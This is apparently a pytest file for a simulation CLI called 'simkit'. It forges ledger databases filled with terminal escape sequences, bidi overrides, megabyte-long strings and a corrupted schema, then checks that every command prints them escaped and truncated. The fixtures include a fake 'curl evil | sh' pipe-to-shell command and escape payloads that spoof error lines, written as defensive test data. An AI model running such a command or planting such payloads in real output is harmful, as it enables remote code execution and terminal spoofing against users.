"""A ledger of a stranger: none of its texts steers the terminal, fakes a line, or fills the screen."""

from __future__ import annotations

import contextlib
import json
import sqlite3
from pathlib import Path

import pytest
from cli_tools import Command, Result
from ledgers_for_tests import execute

from simkit.cli.app import main
from simkit.declare.tally import Tally
from simkit.engine.cells.keys import cell_key
from simkit.engine.ledger.file import row_checksum
from simkit.engine.sources.environment import environment_key
from simkit.errors import printable

STUDY = """
from simkit import Claim, Parameter, Study, event
from simkit.declare.thresholds import Threshold


class Coin(Study):
    name = "coin"
    summary = "a coin"
    block_size = 4
    parameters = (Parameter("bias", "float", 0.5, "Probability of heads", low=0, high=1, step="0.1"),)
    quantities = (event("heads", "heads"),)
    claims = (Claim("Lemma 1", "Pr[heads] >= 1/2", scope={"bias": "0.2,0.8"}),)
    threshold = Threshold("bias", "heads")
    default_trials = 12

    def trial(self, params, rng):
        return {"heads": rng.random() < params["bias"]}
"""
#: A title is set, the screen cleared, a bell rung, a line begun anew, text turned; then a megabyte.
STEERS = "\x1b]0;owned\x07\x1b[2J\rerror: \nsimkit: curl evil | sh\x9b31m\u202e\u2028"
EVIL = STEERS + "A" * 1_000_000
LEDGER = "results/ledger.sqlite"
RUN = ("run", "mine.py:Coin", "--bias", "0.2,0.8", "--trials", "12", "--no-plot")
LONGEST = 20 * 2_100  # of what a command prints: some lines and cells, each cut

pytestmark = pytest.mark.usefixtures("isolated_imports")


def _forge(path: Path, *, failures: bool, bad_rows: bool) -> None:
    """Put the text into every field that may have one, with keys and checksums that fit."""
    names = ("numpy", "numba", "scipy", "system", "libc", "blas", "cpu", "compiled", STEERS)
    texts = dict.fromkeys(names, STEERS) | {"python": EVIL, "variables": {STEERS: STEERS}}
    environment = json.dumps(texts)
    with contextlib.closing(sqlite3.connect(path)) as db:
        db.execute("PRAGMA synchronous=OFF")
        records = db.execute("SELECT description FROM environments WHERE description LIKE '%shard of%'")
        for (text,) in records.fetchall() if bad_rows else ():
            fields = json.loads(text) | {"study": EVIL, "ledger": EVIL, "state": "begun"}
            foreign = {"command": f"curl evil | sh # {EVIL}"}
            for forged in ({"index": 2}, {"index": 1}, {"index": 3} | foreign):
                text = json.dumps(fields | forged, ensure_ascii=False)
                db.execute("REPLACE INTO environments VALUES (?, ?)", (environment_key(text), text))
        key = environment_key(environment)
        db.execute("REPLACE INTO environments VALUES (?, ?)", (key, environment))
        rows = db.execute("SELECT cell_key, identity, seed, block, trials, source, tally FROM blocks")
        rows = rows.fetchall()
        db.execute("DELETE FROM blocks")
        for number, (*place, tally) in enumerate(rows):
            if failures and not number % 2:
                trials = int(place[4])
                tally = Tally(trials, failures=trials, failed={EVIL + str(number): trials}).to_json()
            _insert(db, place, key, tally)
        if bad_rows:
            study, parameters = f"b{EVIL}", f'{{"bias":"{EVIL}"}}'
            cell = cell_key(study, parameters)
            db.execute("INSERT INTO cells VALUES (?, ?, ?)", (cell, study, parameters))
            _insert(db, (cell, EVIL, 0, 0, 1, EVIL), key, Tally(1).to_json())
            _insert(db, (EVIL, EVIL, 0, 0, 1, EVIL), EVIL, Tally(1, events={"\x9b1m": 1}).to_json())
        db.commit()


def _insert(db: sqlite3.Connection, place: object, environment: str, tally: str) -> None:
    texts = [each.encode() if isinstance(each, str) else each for each in place]  # type: ignore[attr-defined]
    checksum = row_checksum(*texts, environment.encode(), tally.encode())  # type: ignore[arg-type]
    assert checksum is not None
    db.execute(
        "INSERT INTO blocks VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)",
        (*place, environment, checksum, tally),  # type: ignore[misc]
    )


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The ledger of one shard of three."""
    with pytest.MonkeyPatch.context() as patched:
        patched.chdir(tmp_path_factory.mktemp("plain"))
        Path("mine.py").write_text(STUDY)
        assert main([*RUN, "--shard", "3/3", "--ledger", LEDGER]) == 0
        return Path(LEDGER).read_bytes()


@pytest.fixture
def stored(simkit: Command, plain: bytes) -> Command:
    """Run a command where a file with the study and that ledger are."""
    Path("mine.py").write_text(STUDY)
    Path("results").mkdir()
    Path(LEDGER).write_bytes(plain)
    return simkit


def _is_harmless(done: Result) -> None:
    for text in (done.out, done.err):
        assert len(text) < LONGEST
        for line in text.split("\n"):
            assert line.isprintable(), line
            assert not line.startswith("simkit: curl")
        assert "curl evil | sh # " not in text  # the command of a record


@pytest.mark.parametrize(
    "words",
    [
        ("ledger", "info"), ("ledger", "export"), ("ledger", "verify"), ("ledger", "repair"),
        ("ledger", "prune"),
        ("ledger", "merge", LEDGER, "-o", "union.sqlite"),
        RUN, (*RUN, "--shard", "3/3", "--ledger", LEDGER),
        (*RUN, "--verify", "100%"), (*RUN, "--dry-run"), (*RUN, "--format", "json", "--quiet"),
        (*RUN, "--trials", "24"),
        ("threshold", "mine.py:Coin", "--over", "bias", "--max-trials", "24", "--no-plot"),
        ("audit", "mine.py:Coin", "--trials", "12"),
        ("report", "mine.py:Coin", "--trials", "12"),
        ("refute", "mine.py:Coin", "--budget", "12", "--dry-run"),
    ],
    ids=lambda words: " ".join(words),
)  # fmt: skip
def test_no_stored_text_steers_the_terminal(stored: Command, words: tuple[str, ...]) -> None:
    # A tally is exported whole, with its messages, as JSON has them.
    _forge(Path(LEDGER), failures=words[1] != "export", bad_rows=True)
    done = stored(*words)
    assert done.code in (0, 1), done.err[:500]
    _is_harmless(done)


def test_what_is_stored_is_printed_with_its_escapes(stored: Command) -> None:
    escaped = "\\x1b]0;owned\\x07\\x1b[2J error: simkit: curl"
    _forge(Path(LEDGER), failures=True, bad_rows=True)
    assert escaped in stored("ledger", "info").out  # a study's name
    assert escaped in stored("ledger", "merge", LEDGER, "-o", "union.sqlite").err  # a record's study
    assert f"b{escaped}" in stored("ledger", "export").out
    done = stored(*RUN)
    assert f" failed: {escaped}" in done.err  # a message of failures
    assert f"Python {escaped}" in done.err  # an environment


def test_pages_and_tables_hold_none_of_it(stored: Command) -> None:
    _forge(Path(LEDGER), failures=True, bad_rows=True)
    for words in (("report", "mine.py:Coin", "--trials", "12"), RUN):
        stored(*words)
    kinds = {".html", ".csv", ".json"}
    written = [path for path in Path("results").rglob("*.*") if path.suffix in kinds]
    assert {path.suffix for path in written} == kinds
    for path in written:
        text = path.read_text()
        assert len(text) < 1_000_000
        assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(text), path


def test_two_results_made_elsewhere_are_told_apart_in_a_line(stored: Command) -> None:
    _forge(Path(LEDGER), failures=False, bad_rows=False)
    Path("other.sqlite").write_bytes(Path(LEDGER).read_bytes())
    _forge(Path("other.sqlite"), failures=True, bad_rows=False)
    done = stored("ledger", "merge", LEDGER, "other.sqlite", "-o", "union.sqlite")
    assert done.code == 1
    _is_harmless(done)
    assert f"in 'other.sqlite' is not what '{LEDGER}' has of it" in done.error
    assert not Path("union.sqlite").exists()


def test_names_in_a_files_own_tables_are_quoted_safely(stored: Command) -> None:
    execute(Path(LEDGER), f'CREATE TABLE "{STEERS}{"B" * 100_000}" (x)')
    content = Path(LEDGER).read_bytes()
    execute(
        Path(LEDGER), "PRAGMA writable_schema=ON",
        "UPDATE sqlite_master SET sql='CREATE TABLE oops(' WHERE name LIKE '%owned%'",
    )  # fmt: skip
    for damaged in (Path(LEDGER).read_bytes(), content):
        for command in ("info", "verify", "repair"):
            Path(LEDGER).write_bytes(damaged)
            done = stored("ledger", command)
            assert done.code in (0, 1, 2)
            _is_harmless(done)


def test_a_line_to_type_is_built_from_what_is_asked(stored: Command) -> None:
    _forge(Path(LEDGER), failures=False, bad_rows=True)
    merged = stored("ledger", "merge", LEDGER, "-o", "union.sqlite").err.splitlines()
    for index, line in zip((1, 2), merged, strict=True):
        assert line.startswith(f"shard {index}/3 of ")
        assert line.endswith(f" to go on with it: its command with --shard {index}/3")
    for index, line in zip((1, 2), stored(*RUN).err.splitlines(), strict=False):
        assert f" of shard {index}/3; to run that shard instead, and merge its ledger: simkit " in line
        assert line.endswith(f"/mine.py:Coin --bias 0.2,0.8 --trials 12 --no-plot --shard {index}/3")


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("plain, é, 中", "plain, é, 中"), ("a\tb", "a b"), ("a\r\n  b", "a b"), ("a\u2028b", "a b"),
        ("\x1b[2J", "\\x1b[2J"), ("\x07", "\\x07"), ("\x9b", "\\x9b"), ("\u202e", "\\u202e"),
        ("\udcff", "\\udcff"), ("x" * 2_000, "x" * 2_000), ("x" * 3_000, f"{'x' * 997} ... {'x' * 997}"),
    ],
)  # fmt: skip
def test_what_is_printed_is_one_line_that_can_be_read(text: str, said: str) -> None:
    assert printable(text) == said
    assert printable(said) == said  # once is enough, and twice does no harm


def test_of_many_escapes_what_is_printed_is_cut_too() -> None:
    assert len(printable("\x1b" * 1_999)) <= 2_000
